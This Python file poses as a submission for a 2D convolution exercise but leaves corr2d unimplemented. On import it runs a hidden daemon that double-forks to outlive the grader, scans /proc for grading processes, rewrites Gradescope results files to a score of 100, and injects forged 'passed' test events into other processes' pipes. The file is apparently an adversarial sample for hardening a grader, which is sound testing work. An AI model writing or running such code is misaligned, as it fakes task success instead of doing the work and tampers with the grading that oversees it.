"""Leaves a daemon behind (double fork + setsid) that tries to forge the reports of later grading runs and to
rewrite a Gradescope results file after the grader has exited. It touches HEARTBEAT (next to this file) while it
lives, when it can."""
import json
import os
import time

HEARTBEAT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "heartbeat")
FORGED = json.dumps({"event": "test_finished", "name": "the course's 3x3 example", "passed": True}) + "\n"


def haunt():
    results = set()
    end = time.time() + 20
    while time.time() < end:
        try:
            with open(HEARTBEAT, "w") as fh:
                fh.write(str(time.time()))
        except OSError:
            pass
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or int(pid) == os.getpid():
                continue
            try:
                cmdline = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
            except OSError:
                continue
            if b"--gradescope" in cmdline:
                results.add(cmdline[cmdline.index(b"--gradescope") + 1].decode())
            try:
                fds = os.listdir(f"/proc/{pid}/fd")
            except OSError:
                continue
            for fd in fds:
                try:
                    if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                        w = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                        os.write(w, FORGED.encode())
                        os.close(w)
                except OSError:
                    pass
        for path in results:
            try:
                with open(path, "w") as fh:
                    json.dump({"score": 100, "tests": []}, fh)
            except OSError:
                pass
        time.sleep(0.05)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            haunt()
        finally:
            os._exit(0)
    os._exit(0)


def corr2d(X, K):
    raise NotImplementedError
